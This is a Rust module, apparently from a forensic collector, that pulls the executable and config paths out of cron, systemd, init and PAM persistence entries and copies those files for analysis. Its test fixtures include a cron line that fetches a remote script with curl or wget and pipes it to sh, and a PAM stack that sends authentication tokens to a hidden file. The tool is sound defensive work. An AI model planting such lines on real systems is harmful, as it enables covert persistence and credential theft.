//! Executables named by persistence entries (category `referenced-exe`): cron lines, `at` jobs, systemd
//! `Exec*=` lines, rc/init scripts, shell start-up files and PAM stacks (a module or `pam_exec` program
//! given by path) often start a file that is not running at capture time. The analyst needs its bytes, and after cleanup they are gone.
//!
//! The collector stores bytes and leaves parsing to the analyzer, so the extraction here is deliberately
//! dumb and conservative: while a file of one of [`SOURCE_CATEGORIES`] is stored, every token of its
//! non-comment lines (of `Exec*=` lines only, for systemd) that is an absolute path is remembered — tokens
//! split on blanks and shell punctuation, so `>/dev/null`, `(curl ...|sh)` and `PATH=/a:/b` fall apart
//! into their paths. Over-reach is cut by what is copied: at the end of the file pass, a remembered path
//! is queued first for the `spend` pass ([`Content::Suspect`] at [`Place::Named`]) only when it resolves inside the
//! root to a regular ELF file or script that was not already recorded, and no package owns it (with no
//! package index: only when it lies in a temp, hidden or home directory, like running executables).
//! Whatever the analyzer makes of the lines, the files they start are in the bundle.
//!
//! A remembered path that is a small regular file but neither ELF nor script — the `config.json` a
//! miner's unit hands it with `-c`, the target list of a spreader — is stored from its head too
//! ([`DATA_CAP`], at most [`MAX_DATA`] per run; private keys and credential files only recorded and
//! hashed, a miner's config stored with its secret values redacted: [`super::secrets`]), under the
//! same package rule: a dormant miner dropped in `/etc` or `/usr/lib` with the line that starts it is
//! judged by what its binary and its config say, wherever they sit.
//!
//! A remembered path that does not exist inside the root is recorded as such (error
//! [`ABSENT_NAMED`], at most [`MAX_ABSENT`] per run): a start line whose program was deleted is an
//! orphan the analyzer can name only when it knows the collector looked.

use std::io::Write;

use minetrace_schemas::bundle::WriteError;
use minetrace_schemas::records::file::{FileKind, ABSENT_NAMED};

use super::host_root::ResolveError;
use super::sink::{Content, Sink};
use super::spend::Place;

/// Categories whose stored files are scanned for absolute paths.
pub const SOURCE_CATEGORIES: &[&str] = &["cron", "at", "systemd", "startup", "shell", "pam"];
/// Paths remembered per run at most, for files no package owns and for package-owned ones each.
pub const MAX_REFERENCES: usize = 4_096;
/// Bytes of one source file scanned at most.
const SCAN_CAP: usize = 1 << 20;
/// Longest token taken for a path.
const MAX_TOKEN: usize = 4_096;
/// Referenced executables copied per run at most.
const MAX_COPIES: usize = 256;
/// Absent referenced paths recorded per run at most.
const MAX_ABSENT: usize = 512;
/// Largest referenced data file (not ELF, not a script) stored; miner configs are a few KiB.
pub const DATA_CAP: u64 = 64 << 10;
/// Referenced data files stored per run at most.
pub const MAX_DATA: usize = 128;

fn is_separator(b: u8) -> bool {
    b.is_ascii_whitespace()
        || matches!(
            b,
            b';' | b'|'
                | b'&'
                | b'('
                | b')'
                | b'<'
                | b'>'
                | b'`'
                | b'\''
                | b'"'
                | b'='
                | b':'
                | b','
                | b'{'
                | b'}'
                | b'$'
                | b'\0'
        )
}

/// Quoted strings of a line that are one absolute path with a blank in it (`"/tmp/.x y/run"`): the shell
/// runs that path, which the blank-separated tokens cut in two. Pairs of quotes only, no escapes, and not
/// a quoted command line (an option or another path after a blank): still tokens, not a parser.
fn quoted_paths(line: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut rest = line;
    std::iter::from_fn(move || loop {
        let open = rest.iter().position(|b| matches!(b, b'"' | b'\''))?;
        let quote = *rest.get(open)?;
        let after = rest.get(open + 1..)?;
        let close = after.iter().position(|b| *b == quote)?;
        let inside = after.get(..close)?;
        rest = after.get(close + 1..)?;
        // A quoted command (`'/opt/m/m -c /opt/m/c.json'`) has options or paths after its first blank.
        let command = inside
            .split(|b| *b == b' ')
            .skip(1)
            .any(|w| w.starts_with(b"-") || w.starts_with(b"/"));
        let one_path = inside.starts_with(b"/")
            && inside.contains(&b' ')
            && !command
            && !inside.iter().any(|b| is_separator(*b) && *b != b' ');
        if one_path {
            return Some(inside);
        }
    })
}

/// A path of the kernel's own file systems by name (`/proc`, `/sys`, `/dev` but for `/dev/shm`): reading
/// one can consume data (`/proc/kmsg`, a trace pipe) or copy a process's secrets (`/proc/PID/environ`).
fn is_pseudo_path(path: &[u8]) -> bool {
    let pseudo = [&b"/dev/"[..], b"/proc/", b"/sys/"]
        .iter()
        .any(|p| path.starts_with(p) || path == p.strip_suffix(b"/").unwrap_or(p));
    pseudo && !path.starts_with(b"/dev/shm/")
}

/// Absolute paths among the tokens of `text`, then its quoted paths with blanks.
/// Whether `word` runs the file its command line names next as a script: an interpreter (`sh`,
/// `/usr/bin/python3`, one list with the analyzer: [`minetrace_schemas::programs`]) or `.`/`source`.
fn runs_a_script(word: &[u8]) -> bool {
    use minetrace_schemas::programs::{INTERPRETERS, SOURCING_BUILTINS};
    SOURCING_BUILTINS.contains(&word) || INTERPRETERS.contains(&super::host_root::file_name(word))
}

/// Absolute paths among the tokens of `text` (into `out`), then its quoted paths with blanks; a path
/// that follows an interpreter word (options between allowed: `sh -x /etc/x`) also into `interpreted`.
fn paths_in(text: &[u8], out: &mut Vec<Vec<u8>>, interpreted: &mut Vec<Vec<u8>>) {
    let mut after_interpreter = false;
    let split = text
        .split(|b| is_separator(*b))
        .filter(|t| !t.is_empty())
        .map(|t| (t, true));
    let tokens = split.chain(quoted_paths(text).map(|t| (t, false)));
    for (token, plain) in tokens {
        let run = after_interpreter;
        if plain {
            // Options keep the interpreter's claim on the next operand.
            if runs_a_script(token) {
                after_interpreter = true;
            } else if !token.starts_with(b"-") {
                after_interpreter = false;
            }
        }
        if token.len() < 2 || token.len() > MAX_TOKEN || !token.starts_with(b"/") {
            continue;
        }
        if token.starts_with(b"//") || token.iter().any(|b| matches!(b, b'*' | b'?' | b'[')) {
            continue;
        }
        let token = token.strip_suffix(b"/").unwrap_or(token);
        if is_pseudo_path(token) {
            continue;
        }
        if !out.iter().any(|p| p == token) {
            out.push(token.to_vec());
        }
        if run && !interpreted.iter().any(|p| p == token) {
            interpreted.push(token.to_vec());
        }
    }
}

/// Absolute paths a stored file of `category` names: every token of its non-comment lines (`Exec*=`
/// values only, for systemd units).
pub fn extract(category: &str, bytes: &[u8]) -> Vec<Vec<u8>> {
    extract_named(category, bytes).0
}

/// [`extract`], and the paths among them that an interpreter or `.` runs as a script (`sh /etc/x`).
pub fn extract_named(category: &str, bytes: &[u8]) -> (Vec<Vec<u8>>, Vec<Vec<u8>>) {
    let mut out = Vec::new();
    let mut interpreted = Vec::new();
    if !SOURCE_CATEGORIES.contains(&category) {
        return (out, interpreted);
    }
    let bytes = bytes.get(..bytes.len().min(SCAN_CAP)).unwrap_or(bytes);
    for line in bytes.split(|b| *b == b'\n') {
        let line = line.trim_ascii_start();
        if line.is_empty() || line.starts_with(b"#") || line.starts_with(b";") {
            continue;
        }
        if category == "systemd" {
            if !line.starts_with(b"Exec") {
                continue;
            }
            let Some(eq) = line.iter().position(|b| *b == b'=') else {
                continue;
            };
            let value = line.get(eq + 1..).unwrap_or_default();
            // Exec prefixes: @ - : + ! (and !!) before the path.
            let start = value
                .iter()
                .position(|b| !matches!(b, b'@' | b'-' | b':' | b'+' | b'!'))
                .unwrap_or(value.len());
            paths_in(
                value.get(start..).unwrap_or_default(),
                &mut out,
                &mut interpreted,
            );
        } else {
            paths_in(line, &mut out, &mut interpreted);
        }
    }
    (out, interpreted)
}

/// An ELF file or a script (shebang or script name), by its first bytes, opened as a regular file only
/// and only when it is still the `(dev, inode)` that was checked (`checked`).
fn looks_executable(real: &std::path::Path, host: &[u8], checked: (u64, u64)) -> bool {
    use std::io::Read;
    let Ok((file, meta)) = crate::host_read::open_regular(real) else {
        return false;
    };
    if super::file_meta::from_std(&meta).id() != checked {
        return false;
    }
    let mut head = Vec::with_capacity(4);
    if file.take(4).read_to_end(&mut head).is_err() {
        return false;
    }
    super::file_meta::is_elf(&head)
        || super::file_meta::is_script(super::host_root::file_name(host), &head)
}

/// Records that a path a persistence entry names does not exist ([`ABSENT_NAMED`]), so the analyzer can
/// tell an orphaned start line from a file that was merely not collected. At most [`MAX_ABSENT`].
fn absent<W: Write>(s: &mut Sink<'_, W>, path: &[u8], count: &mut usize) {
    if *count >= MAX_ABSENT || s.ctx.recorded.contains_key(path) {
        return;
    }
    *count += 1;
    s.record_error(path, ABSENT_NAMED.to_owned());
}

/// Copies the executables the stored persistence entries named (see the module documentation).
pub fn collect<W: Write>(s: &mut Sink<'_, W>) -> Result<(), WriteError> {
    let [first, second] = std::mem::take(&mut s.ctx.references);
    let mut copies = 0;
    let mut data = 0;
    let mut absents = 0;
    for path in first.into_iter().chain(second) {
        if copies >= MAX_COPIES {
            s.note(
                &path,
                format!(
                    "not copied: {MAX_COPIES} executables named by persistence were copied already"
                ),
            );
            break;
        }
        let r = match s.ctx.root.resolve(&path, true) {
            Ok(r) => r,
            Err(ResolveError::NotFound) => {
                absent(s, &path, &mut absents);
                continue;
            }
            Err(_) => continue,
        };
        if s.ctx.recorded.contains_key(&path) || s.ctx.recorded.contains_key(&r.path) {
            // Already listed (a temp walk met it): it goes first in the spend pass.
            s.ctx.spend.promote(&path);
            s.ctx.spend.promote(&r.path);
            continue;
        }
        let st = match s.ctx.root.lstat(&r.path) {
            Ok(st) => st,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
                absent(s, &path, &mut absents);
                continue;
            }
            Err(_) => continue,
        };
        if st.kind != FileKind::Regular {
            continue;
        }
        // The name as written passed the pseudo-path filter; where it lands must too (a link
        // `h.json -> /proc/kmsg` would otherwise drain the kernel log into the bundle). A bind mount of
        // a kernel file system, or a swap after this check, is refused by the opened descriptor's file
        // system (`host_read::kernel_fs`), and the captures below read only the `(dev, inode)` checked
        // here (review of train 2, item 10).
        if is_pseudo_path(&r.path) {
            s.note(
                &path,
                "not read: it resolves into a kernel file system (/proc, /sys, /dev)".to_owned(),
            );
            continue;
        }
        let wanted = match s.col.package_db.index() {
            Some(index) => !index.owns(&r.path) && !index.owns(&path),
            None => {
                !crate::live::executables::copy_reasons(&r.path, false, false).is_empty()
                    || !crate::live::executables::copy_reasons(&path, false, false).is_empty()
            }
        };
        if !wanted {
            continue;
        }
        if !looks_executable(&s.ctx.root.real(&r.path), &r.path, st.id()) {
            if st.size <= DATA_CAP && data < MAX_DATA {
                data += 1;
                // A file a line runs with `sh FILE` or `. FILE` is a script whatever its first bytes:
                // its variables (`KEY=`, `TOKEN=`) are redacted, never a reason to withhold it.
                let guard = if s.ctx.interpreted.contains(&path) {
                    super::secrets::release_script
                } else {
                    super::secrets::release
                };
                s.capture_checked(
                    &path,
                    Content::Guarded {
                        cap: DATA_CAP,
                        guard,
                    },
                    st.id(),
                )?;
            }
            continue;
        }
        // Recorded under the name the entry used (a link is recorded as a link, then its target).
        s.capture_checked(&path, Content::Suspect(Place::Named), st.id())?;
        copies += 1;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ex(category: &str, text: &str) -> Vec<String> {
        extract(category, text.as_bytes())
            .into_iter()
            .map(|p| String::from_utf8(p).unwrap())
            .collect()
    }

    #[test]
    fn cron_lines() {
        assert_eq!(
            ex(
                "cron",
                "# */5 * * * * /commented/out\nPATH=/usr/local/bin:/usr/bin\n*/30 * * * * root /usr/bin/sysdr >/dev/null 2>&1\n"
            ),
            vec!["/usr/local/bin", "/usr/bin", "/usr/bin/sysdr"]
        );
        assert_eq!(
            ex(
                "cron",
                "*/1 * * * * (curl -fsSL http://127.66.6.2/update.sh||wget -q -O- http://x/u.sh)|sh"
            ),
            Vec::<String>::new()
        );
        assert_eq!(
            ex(
                "cron",
                "@reboot cd /tmp/.x&&./run;/bin/sh -c '/opt/m/m -c /opt/m/c.json'"
            ),
            vec!["/tmp/.x", "/bin/sh", "/opt/m/m", "/opt/m/c.json"]
        );
        // A quoted path with a blank is looked for whole (its first token is looked for too, as before);
        // a quoted command line is not one path.
        assert_eq!(
            ex(
                "cron",
                "* * * * * \"/tmp/.x y/run\" >/dev/null; sh -c '/opt/m/m -o p' '/srv/a b'"
            ),
            vec!["/tmp/.x", "/opt/m/m", "/srv/a", "/tmp/.x y/run", "/srv/a b"]
        );
    }

    /// Review of train 1, item 3: the paths a line runs through an interpreter or `.`.
    #[test]
    fn paths_run_by_an_interpreter() {
        let (paths, run) = extract_named(
            "cron",
            b"* * * * * root sh /etc/sysd/init; . /etc/backup/env; /usr/bin/python3 -u /opt/x.py --cfg /opt/c.json; cat /etc/hosts\n",
        );
        assert!(
            paths.contains(&b"/etc/hosts".to_vec()) && paths.contains(&b"/opt/c.json".to_vec())
        );
        assert_eq!(
            run,
            vec![
                b"/etc/sysd/init".to_vec(),
                b"/etc/backup/env".to_vec(),
                b"/opt/x.py".to_vec()
            ]
        );
        let (_, run) = extract_named("systemd", b"ExecStart=/bin/bash -x /opt/kit/start\n");
        assert_eq!(run, vec![b"/opt/kit/start".to_vec()]);
    }

    #[test]
    fn unit_exec_lines_only() {
        let unit = "[Unit]\nDescription=/not/this\n[Service]\nExecStartPre=-/usr/bin/true\nExecStart=@/etc/networkservice networkservice --cfg=/etc/config.json\nEnvironment=X=/nor/this\n#ExecStart=/commented\n";
        assert_eq!(
            ex("systemd", unit),
            vec!["/usr/bin/true", "/etc/networkservice", "/etc/config.json"]
        );
    }

    #[test]
    fn pam_stacks_name_modules_and_programs_by_path() {
        let stack = "# sshd\n@include common-auth\nauth sufficient /lib/x86_64-linux-gnu/security/.pam_sys.so\nauth required pam_unix.so nullok\nauth optional pam_exec.so quiet expose_authtok /var/tmp/.a/log\n";
        let found: Vec<String> = extract("pam", stack.as_bytes())
            .iter()
            .map(|p| String::from_utf8_lossy(p).into_owned())
            .collect();
        assert_eq!(
            found,
            vec![
                "/lib/x86_64-linux-gnu/security/.pam_sys.so",
                "/var/tmp/.a/log"
            ]
        );
        // The rest of the accounts family (passwd's shells and homes) names nothing to copy.
        assert!(extract("accounts", b"root:x:0:0:root:/root:/bin/bash\n").is_empty());
    }

    #[test]
    fn entries_in_unowned_files_come_first() {
        use super::super::sink::test_support::Harness;
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("etc/init.d")).unwrap();
        std::fs::create_dir_all(dir.path().join("etc/cron.d")).unwrap();
        std::fs::write(dir.path().join("etc/init.d/stock"), "/opt/a start\n").unwrap();
        std::fs::write(dir.path().join("etc/cron.d/x"), "* * * * * root /opt/b\n").unwrap();
        let mut h = Harness::new(dir.path());
        let mut index = crate::package_index::PackageIndex::new(Vec::new());
        index.add_list("initscripts", b"/etc/init.d/stock\n");
        h.col.package_db = crate::package_index::PackageDb::Dpkg(index.into());
        let cap = Content::Head { cap: 1 << 20 };
        h.sink("startup")
            .capture(b"/etc/init.d/stock", cap)
            .unwrap();
        h.sink("cron").capture(b"/etc/cron.d/x", cap).unwrap();
        h.sink("log").capture(b"/etc/cron.d/x", cap).unwrap();
        assert_eq!(
            h.ctx.references,
            [vec![b"/opt/b".to_vec()], vec![b"/opt/a".to_vec()]]
        );
    }

    #[test]
    fn named_configs_are_stored_bounded_and_keys_withheld() {
        use super::super::sink::test_support::{put, Harness};
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        put(root, "/etc/sysd/config.json", b"{\"pools\": []}", 0o644);
        put(
            root,
            "/etc/sysd/huge.lst",
            &vec![b'1'; DATA_CAP as usize + 1],
            0o644,
        );
        put(root, "/etc/sysd/owned.conf", b"x=1\n", 0o644);
        put(
            root,
            "/root/.ssh/id_rsa",
            b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbg==\n-----END OPENSSH PRIVATE KEY-----\n",
            0o600,
        );
        let mut h = Harness::new(root);
        let mut index = crate::package_index::PackageIndex::new(Vec::new());
        index.add_list("sysd", b"/etc/sysd/owned.conf\n");
        h.col.package_db = crate::package_index::PackageDb::Dpkg(index.into());
        h.ctx.references = [
            vec![
                b"/etc/sysd/config.json".to_vec(),
                b"/etc/sysd/huge.lst".to_vec(),
                b"/etc/sysd/owned.conf".to_vec(),
                b"/root/.ssh/id_rsa".to_vec(),
            ],
            Vec::new(),
        ];
        collect(&mut h.sink("referenced-exe")).unwrap();
        let stored = |p: &str| h.record(p).map(|f| f.member.is_some());
        assert_eq!(stored("/etc/sysd/config.json"), Some(true));
        assert_eq!(stored("/etc/sysd/huge.lst"), None);
        assert_eq!(stored("/etc/sysd/owned.conf"), None);
        // Recorded and hashed, never stored.
        let key = h.record("/root/.ssh/id_rsa").unwrap();
        assert!(key.member.is_none() && key.sha256.is_some());
    }

    /// Review of train 1, item 1: a named file is judged by where it lands. A link into `/proc` (here a
    /// dead-box tree's own `/proc`, a plain file) is not read; the live kernel file systems are known by
    /// their type whatever their path.
    #[test]
    fn links_into_kernel_file_systems_are_not_read() {
        use super::super::sink::test_support::{put, Harness};
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        put(root, "/proc/kmsg", b"<6>kernel line\n", 0o400);
        put(root, "/etc/sysd/plain.json", b"{}", 0o644);
        std::fs::create_dir_all(root.join("etc/sysd")).unwrap();
        std::os::unix::fs::symlink("/proc/kmsg", root.join("etc/sysd/h.json")).unwrap();
        let mut h = Harness::new(root);
        h.col.package_db = crate::package_index::PackageDb::Dpkg(
            crate::package_index::PackageIndex::new(Vec::new()).into(),
        );
        h.ctx.references = [
            vec![
                b"/etc/sysd/h.json".to_vec(),
                b"/etc/sysd/plain.json".to_vec(),
                b"/etc/sysd/gone".to_vec(),
            ],
            Vec::new(),
        ];
        collect(&mut h.sink("referenced-exe")).unwrap();
        assert!(h.record("/proc/kmsg").is_none_or(|f| f.member.is_none()));
        assert!(h
            .record("/etc/sysd/h.json")
            .is_none_or(|f| f.member.is_none()));
        assert_eq!(
            h.record("/etc/sysd/plain.json").map(|f| f.member.is_some()),
            Some(true)
        );
        // A missing file in a directory that exists is still recorded as absent (an orphaned start
        // line), not mistaken for a kernel file.
        assert_eq!(
            h.record("/etc/sysd/gone")
                .and_then(|f| f.error.clone())
                .as_deref(),
            Some(ABSENT_NAMED)
        );
    }

    /// Review of train 2, item 10: the file checked is the file read. The two steps of [`collect`] are
    /// run by hand on the host's own root (where a link to `/proc/self/status` lands on procfs) with a
    /// swap between them: the named file becomes a link to a kernel file, or its directory a link to
    /// `/proc/self` (so `sysd/stat` is `/proc/self/stat`). Neither is read; a kernel file reached with no swap at all is refused by the opened
    /// descriptor's file system.
    #[test]
    fn a_file_swapped_for_a_kernel_file_after_its_check_is_not_read() {
        use super::super::sink::test_support::Harness;
        use std::os::unix::ffi::OsStrExt;
        let dir = tempfile::tempdir().unwrap();
        let sysd = dir.path().join("sysd");
        let guarded = Content::Guarded {
            cap: DATA_CAP,
            guard: super::super::secrets::release,
        };
        let mut h = Harness::new(std::path::Path::new("/"));
        for (name, swap_dir) in [("h.json", false), ("stat", true)] {
            std::fs::create_dir_all(&sysd).unwrap();
            let file = sysd.join(name);
            std::fs::write(&file, b"{}").unwrap();
            let host = file.as_os_str().as_bytes().to_vec();
            // Step 1, the check: resolved, lstat'ed, a small regular file on an ordinary file system.
            let r = h.ctx.root.resolve(&host, true).unwrap();
            let st = h.ctx.root.lstat(&r.path).unwrap();
            assert_eq!(st.kind, FileKind::Regular);
            assert!(!is_pseudo_path(&r.path));
            // The swap.
            if swap_dir {
                std::fs::remove_dir_all(&sysd).unwrap();
                std::os::unix::fs::symlink("/proc/self", &sysd).unwrap();
            } else {
                std::fs::remove_file(&file).unwrap();
                std::os::unix::fs::symlink("/proc/self/status", &file).unwrap();
            }
            // Step 2, the capture of what was checked.
            let got = h
                .sink("referenced-exe")
                .capture_checked(&host, guarded, st.id())
                .unwrap();
            assert!(got.is_none(), "{name}: read after the swap");
            std::fs::remove_file(&sysd)
                .or_else(|_| std::fs::remove_dir_all(&sysd))
                .unwrap();
        }
        let with_error = |h: &Harness, what: &str| {
            h.col
                .files
                .iter()
                .filter(|f| f.error.as_deref().is_some_and(|e| e.contains(what)))
                .count()
        };
        assert_eq!(with_error(&h, "replaced since"), 2, "{:?}", h.col.files);
        // No swap, a kernel file named directly: the descriptor's file system refuses it.
        assert!(h
            .sink("referenced-exe")
            .capture(b"/proc/self/statm", guarded)
            .unwrap()
            .is_none());
        assert_eq!(
            with_error(&h, "kernel file system (proc)"),
            1,
            "{:?}",
            h.col.files
        );
        assert!(h.col.files.iter().all(|f| f.member.is_none()));
    }

    #[test]
    fn credential_files_named_on_lines_are_hashed_not_stored() {
        use super::super::sink::test_support::{put, Harness};
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let files: [(&str, &[u8]); 9] = [
            ("/root/.my.cnf", b"[client]\nuser=backup\n"),
            ("/etc/restic/pass", b"hunter2\n"),
            ("/srv/app/.env", b"DB_HOST=db\n"),
            ("/etc/backup/s3.conf", b"aws_secret_access_key = abc\n"),
            // Review of train 2, item 8: secrets under keys the old list missed.
            ("/etc/backup/env", b"DB_HOST=db\nDB_PASS=hunter2\n"),
            ("/etc/backup/app.conf", b"[api]\napi_key = 0123\ntoken=abc\n"),
            ("/etc/backup/target.conf", b"bucket = s3://backups\n"),
            (
                "/etc/sysd/config.json",
                b"{\"pools\": [{\"url\": \"p:3333\", \"pass\": \"x\"}], \"http\": {\"access-token\": null}}",
            ),
            // A miner's config with a decoy password key under a credential-shaped name: stored,
            // redacted.
            (
                "/etc/sysd/creds.json",
                b"{\"password\": \"\", \"pools\": [{\"url\": \"127.66.0.1:3333\", \"user\": \"w\"}]}",
            ),
        ];
        for (p, b) in files {
            put(root, p, b, 0o600);
        }
        let mut h = Harness::new(root);
        h.col.package_db = crate::package_index::PackageDb::Dpkg(
            crate::package_index::PackageIndex::new(Vec::new()).into(),
        );
        h.ctx.references = [
            files.iter().map(|(p, _)| p.as_bytes().to_vec()).collect(),
            Vec::new(),
        ];
        // A kit's start file a cron line runs with `sh`: stored, its variables redacted.
        put(
            root,
            "/etc/sysd/init",
            b"KEY=abc\ncd /etc/sysd && ./sysd\n",
            0o644,
        );
        h.ctx.references[0].push(b"/etc/sysd/init".to_vec());
        h.ctx.interpreted.insert(b"/etc/sysd/init".to_vec());
        collect(&mut h.sink("referenced-exe")).unwrap();
        let init = h.record("/etc/sysd/init").unwrap();
        assert!(
            init.member.is_some()
                && init
                    .error
                    .as_deref()
                    .is_some_and(|e| e.starts_with("content redacted: 1 secret value")),
            "{init:?}"
        );
        for (p, _) in &files[..6] {
            let r = h.record(p).unwrap_or_else(|| panic!("{p} not recorded"));
            assert!(r.member.is_none() && r.sha256.is_some(), "{p} was stored");
        }
        for (p, _) in &files[6..] {
            assert!(h.record(p).unwrap().member.is_some(), "{p} was not stored");
        }
        for (p, bytes) in &files[7..] {
            let r = h.record(p).unwrap();
            assert!(
                r.error
                    .as_deref()
                    .is_some_and(|e| e.starts_with("content redacted: 1 secret value")),
                "{p}: {r:?}"
            );
            // The record keeps the host file's digest.
            assert_eq!(
                r.sha256.as_deref(),
                Some(super::super::file_meta::sha256_hex(bytes).as_str())
            );
        }
    }

    #[test]
    fn other_categories_and_hostile_bytes() {
        assert!(ex("log", "/usr/bin/x").is_empty());
        assert!(ex("ssh", "command=\"/tmp/x\" ssh-rsa AAAA").is_empty());
        let hostile = extract(
            "startup",
            b"/tmp/\xff\n\x00/x\n/a*b /c?d /e[f] //net/x /dev/shm/y /sys/z/",
        );
        assert_eq!(
            hostile,
            vec![
                b"/tmp/\xff".to_vec(),
                b"/x".to_vec(),
                b"/dev/shm/y".to_vec()
            ]
        );
    }
}
